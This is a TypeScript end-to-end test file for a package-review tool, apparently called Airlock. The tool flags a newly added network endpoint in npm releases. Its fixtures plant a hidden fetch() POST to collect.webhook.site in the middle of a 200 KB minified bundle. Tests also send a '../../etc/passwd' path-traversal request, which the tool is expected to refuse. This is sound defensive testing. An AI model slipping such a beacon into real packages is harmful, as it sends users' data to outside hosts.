import { mkdir } from 'node:fs/promises';
import type { Browser, Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { ManualClock } from '../helpers/manual-clock.js';
import { startAirlock, type StartedAirlock } from '../helpers/start-airlock.js';
import { startVerdaccio, type Verdaccio } from '../helpers/verdaccio.js';
import { launchChromium } from './browser.js';
import { adminToken, api, createToken } from './review-fixtures.js';

type Json = Record<string, any>; // eslint-disable-line @typescript-eslint/no-explicit-any -- response bodies in assertions

/** A 200 KB minified bundle on one line; with `host`, a call to it sits in the middle. */
function bundle(seed: string, host?: string): string {
  const chunk = (n: number) => Array.from({ length: n }, (_, i) => `function ${seed}${i}(e,t){return e+t*${i}}`).join(';');
  const half = chunk(2800);
  const middle = host ? `;function send(d){return fetch("https://${host}/c",{method:"POST",body:d})}` : '';
  return `!function(){${half}${middle};${chunk(2800).replace(/function /g, 'function z')}}();`;
}

const host = 'collect.webhook.site';
let verdaccio: Verdaccio;
let airlock: StartedAirlock;
let browser: Browser;
let page: Page;
let reviewer: string;

async function analyzed(id: string): Promise<Json> {
  const deadline = Date.now() + 90_000;
  for (;;) {
    const res = await api(airlock.url, `api/v1/releases/${id}`, { token: reviewer });
    if (res.status === 200 && (res.body as Json).analysis === 'done') return res.body as Json;
    if (Date.now() > deadline) throw new Error(`${id} was not analyzed in time: ${res.text}`);
    await new Promise((r) => setTimeout(r, 250));
  }
}

beforeAll(async () => {
  await mkdir('test-output', { recursive: true });
  verdaccio = await startVerdaccio();
  await verdaccio.publish({
    name: 'bundle-lib',
    version: '1.0.0',
    manifest: { scripts: { build: 'esbuild src/index.js' }, dependencies: { 'old-dep': '^1.0.0' } },
    files: { 'dist/app.js': bundle('a'), 'README.md': '# bundle-lib\n', 'CHANGELOG.md': 'first\n' },
  });
  // Three later releases, each with the same new endpoint in the rebuilt bundle, all diffed against 1.0.0.
  for (const version of ['1.0.1', '1.0.2', '1.0.3']) {
    await verdaccio.publish({
      name: 'bundle-lib',
      version,
      manifest: { scripts: { build: 'esbuild src/index.js --minify' }, dependencies: { 'new-dep': '^2.0.0' } },
      files: { 'dist/app.js': bundle('a', host), 'README.md': '# bundle-lib\n', 'dist/extra.js': 'module.exports = 1;\n' },
    });
  }
  // CRLF line endings and a template literal whose host sits three lines below its start.
  await verdaccio.publish({ name: 'awkward-lib', version: '1.0.0', files: { 'lib/banner.js': 'module.exports = 1;\r\n' } });
  await verdaccio.publish({
    name: 'awkward-lib',
    version: '1.0.1',
    files: { 'lib/banner.js': 'const a = 1;\r\nconst banner = `first\r\nsecond\r\nthird\r\nposts to https://collect.webhook.site/x\r\n`;\r\nmodule.exports = banner;\r\n' },
  });
  airlock = await startAirlock({
    clock: new ManualClock(new Date()),
    policy: 'cooldown: 72h\npackages:\n  "npm:bundle-lib@1.0.0": { cooldown: 0 }\n  "npm:awkward-lib@1.0.0": { cooldown: 0 }\n',
    env: { AIRLOCK_ADMIN_TOKEN: adminToken, AIRLOCK_NPM_UPSTREAM: verdaccio.url },
  });
  reviewer = await createToken(airlock.url, 'alice', 'reviewer');
  expect((await fetch(new URL('npm/bundle-lib', airlock.url))).status).toBe(200);
  expect((await fetch(new URL('npm/awkward-lib', airlock.url))).status).toBe(200);
  for (const v of ['1.0.1', '1.0.2', '1.0.3']) await analyzed(`npm:bundle-lib@${v}`);
  await analyzed('npm:awkward-lib@1.0.1');
  airlock.clock.advance('73h');

  browser = await launchChromium();
  page = await browser.newPage({ viewport: { width: 1300, height: 900 } });
  await page.goto(airlock.url);
  await page.getByLabel('API token').fill(reviewer);
  await page.getByRole('button', { name: 'Sign in' }).click();
  await page.getByRole('heading', { name: 'Review queue' }).waitFor();
}, 240_000);

afterAll(async () => {
  await browser?.close();
  await airlock?.close();
  await verdaccio?.stop();
});

describe('the release page of a release whose finding sits in a 200 KB one-line bundle', () => {
  it('comes in one round trip, stays short, and shows the match in a window with the host highlighted', async () => {
    const id = 'npm:bundle-lib@1.0.2';
    const requests: string[] = [];
    page.on('request', (r) => {
      if (r.url().includes('/api/v1/')) requests.push(new URL(r.url()).pathname + new URL(r.url()).search);
    });
    await page.goto(`${airlock.url}#/release/${encodeURIComponent(id)}`);
    const high = page.getByRole('region', { name: 'high findings' });
    await high.waitFor();
    const finding = high.locator('article.finding', { hasText: 'network-endpoint-added' });
    await finding.waitFor();
    expect(await finding.locator('h4').first().textContent()).toMatch(/dist\/app\.js:1\b/);

    const window = finding.getByRole('table', { name: /dist\/app\.js lines 1 to 1/ });
    expect(await window.locator('mark').textContent()).toContain(host);
    const shown = (await window.textContent()) ?? '';
    expect(shown.length).toBeLessThan(1000);
    expect(shown).toContain('…');

    const height = await page.evaluate<number>('document.documentElement.scrollHeight');
    expect(height).toBeLessThan(5000);
    await page.screenshot({ path: 'test-output/release-page-bundle.png', fullPage: true });
    // Everything above came with the one release request; no request per finding.
    expect(requests.filter((p) => p.startsWith('/api/v1/releases/'))).toEqual([`/api/v1/releases/${encodeURIComponent(id)}`]);

    // "Show more" widens the window around the same match.
    await finding.getByRole('button', { name: 'Show more' }).click();
    await expect.poll(async () => ((await finding.locator('table.code').textContent()) ?? '').length).toBeGreaterThan(3000);
    expect(await finding.locator('table.code mark').textContent()).toContain(host);
    const link = finding.getByRole('link', { name: 'Whole file' });
    const raw = await fetch(new URL((await link.getAttribute('href'))!, airlock.url), { headers: { authorization: `Bearer ${reviewer}` } });
    expect(raw.headers.get('content-type')).toBe('text/plain; charset=utf-8');
    // Package text is never rendered as a page of Airlock's origin.
    expect(raw.headers.get('content-security-policy')).toBe("default-src 'none'; sandbox");
    expect(raw.headers.get('x-content-type-options')).toBe('nosniff');
    expect((await raw.text()).length).toBeGreaterThan(200_000);
  });

  it('refuses a wider window for a finding that is not there, and a raw path that climbs out of the archive', async () => {
    const base = 'api/v1/releases/npm:bundle-lib@1.0.2';
    const bad = await api(airlock.url, `${base}/excerpt?finding=99`, { token: reviewer });
    expect(bad.status).toBe(400);
    expect((bad.body as Json).error).toMatch(/^finding must be the index of a finding with a file \(0 to \d\), got "99"$/);
    const huge = await api(airlock.url, `${base}/excerpt?finding=0&lines=100000`, { token: reviewer });
    expect(huge.status).toBe(400);
    const climb = await api(airlock.url, `${base}/raw?path=../../etc/passwd`, { token: reviewer });
    expect(climb.status).toBe(400);
    expect((climb.body as Json).error).toBe('"../../etc/passwd" is not a file path inside an archive');
  });

  it('shows the diff summary before the findings: files with sizes, dependencies and scripts before and after', async () => {
    const summary = page.getByRole('region', { name: 'Diff summary' });
    await summary.waitFor();
    const text = (await summary.textContent()) ?? '';
    expect(text).toMatch(/What changed since 1\.0\.0/);
    expect(text).toMatch(/bundle-lib-1\.0\.2\.tgz against bundle-lib-1\.0\.0\.tgz: 1 added, 1 removed, 2 changed, 1 unchanged/);
    expect(text).toMatch(/Added \(1\)dist\/extra\.js 20 B/);
    expect(text).toMatch(/Removed \(1\)CHANGELOG\.md 6 B/);
    expect(text).toMatch(/Changed \(2\)dist\/app\.js 200\.\d KB → 200\.\d KBpackage\.json \d+ B → \d+ B/);
    const deps = summary.getByRole('list', { name: 'Dependency changes' });
    expect(await deps.textContent()).toMatch(/\+ new-dep \^2\.0\.0.*− old-dep \^1\.0\.0/);
    const scripts = summary.getByRole('table', { name: 'Scripts before and after' });
    expect(await scripts.textContent()).toContain('buildesbuild src/index.jsesbuild src/index.js --minify');
    // The summary is above the findings.
    const order = await page.evaluate<number>(
      "(() => { const s = document.querySelector('.diff-summary'); const f = document.querySelector('section.findings'); return s && f ? s.compareDocumentPosition(f) & Node.DOCUMENT_POSITION_FOLLOWING : 0; })()",
    );
    expect(order).toBeTruthy();
  });

  it('shows the side-by-side diff of the long line on request, cut around the change', async () => {
    const finding = page.getByRole('region', { name: 'high findings' }).locator('article.finding', { hasText: 'network-endpoint-added' });
    await finding.getByRole('button', { name: 'Changes against the baseline' }).click();
    const diff = finding.getByRole('table', { name: /Side-by-side diff of dist\/app\.js: 1\.0\.0 against 1\.0\.2/ });
    await diff.waitFor();
    expect(((await diff.textContent()) ?? '').length).toBeLessThan(3000);
    const height = await page.evaluate<number>('document.documentElement.scrollHeight');
    expect(height).toBeLessThan(6000);
  });

  it('offers to decide the releases waiting on the same findings together, and audits each', async () => {
    const group = page.getByRole('region', { name: 'Waiting on the same findings' });
    expect(await group.textContent()).toMatch(/2 other releases wait on the same findings.*npm:bundle-lib@1\.0\.(1|3), npm:bundle-lib@1\.0\.(1|3)/);
    const form = group.getByRole('form', { name: 'Decide all 3 together' });
    await form.getByRole('radio', { name: 'reject' }).check();
    await form.getByLabel('Reason (recorded for each release)').fill('new beacon to webhook.site in the bundle');
    await form.getByRole('button', { name: 'Decide 3 releases' }).click();
    await expect.poll(() => page.locator('.reason').first().textContent()).toMatch(/rejected by alice: new beacon to webhook\.site in the bundle/);
    for (const v of ['1.0.1', '1.0.2', '1.0.3']) {
      const res = await api(airlock.url, `api/v1/audit?subject=npm:bundle-lib@${v}`, { token: reviewer });
      const rejects = (res.body as Json).entries.filter((e: Json) => e.action === 'reject' && e.subject === `npm:bundle-lib@${v}`);
      expect(rejects).toHaveLength(1);
      expect(rejects[0]).toMatchObject({ actor: 'alice', reason: 'new beacon to webhook.site in the bundle' });
    }
  });

  it('numbers the lines of a CRLF file with a multi-line template literal where the host really is', async () => {
    await page.goto(`${airlock.url}#/release/${encodeURIComponent('npm:awkward-lib@1.0.1')}`);
    const finding = page.locator('article.finding', { hasText: 'network-endpoint-added' });
    await finding.waitFor();
    expect(await finding.locator('h4').first().textContent()).toMatch(/lib\/banner\.js:5$/);
    const window = finding.getByRole('table', { name: 'lib/banner.js lines 2 to 7' });
    expect(await window.locator('tr.hit').textContent()).toBe('5posts to https://collect.webhook.site/x');
    expect(await window.locator('tr.hit mark').textContent()).toBe('collect.webhook.site');
  });
});
